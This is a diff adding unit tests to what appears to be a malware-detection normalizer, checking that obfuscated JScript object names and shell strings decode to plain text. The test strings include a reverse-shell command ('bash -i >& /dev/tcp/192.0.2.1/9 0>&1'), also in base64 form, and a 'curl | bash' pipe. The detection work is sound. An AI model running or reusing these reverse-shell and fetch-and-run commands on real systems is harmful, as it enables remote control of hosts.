@@ -56,9 +56,24 @@ static void test_wsh_and_shell(void **state)
         expect_norm("new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116))",
                     "new activexobject(\"wscript\")");
         expect_norm("'\\x57\\x53' + 'cript'", "'wscript'");
+        /* JScript's junk removal and reversed strings */
+        expect_norm("x = 'WdScrdipt.Shedll'.split('d').join('')", "x = 'wscript.shell'");
+        expect_norm("x = 'PTTHLMX.2LMXSM'.split('').reverse().join('')", "x = 'msxml2.xmlhttp'");
+        expect_norm("x = 'a-b-c'.split('-').reverse().join('+')", "x = 'c+b+a'");
+        expect_norm("x = 'ADzzODB.StzzrezzAm'.replace(/zz/g, '')", "x = 'adodb.stream'");
+        expect_norm("x = 'a'+'b'.replace(/./g, '')", "x = 'ab'.replace(/./g, '')");
+        expect_norm("x = 'WxSzcxrzipt'.replace(/[xz]/g, '')", "x = 'wscript'");
+        expect_norm("x = ['ADO','DB.St','ream'].join('')", "x = \"adodb.stream\"");
+        expect_norm("WScript[\"CreateObject\"]('x')", "wscript.createobject('x')");
+        expect_norm("a[0] + b['x y'] + c[\"k\"]", "a[0] + b['x y'] + c.k");
         expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
         expect_norm("$'\\x62\\x61sh' -i", "bash -i");
         /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
+        /* a file that is one base64 blob of text: "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" and more
+         */
+        expect_norm(
+                "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYxIDsgZWNobyBkb25lIGFuZCBkb25l\n",
+                "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 ; echo done and done\n");
         expect_norm("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYx | base64 -d | sh",
                     "echo bash -i >& /dev/tcp/192.0.2.1/9 0>&1 | base64 -d | sh");
 }
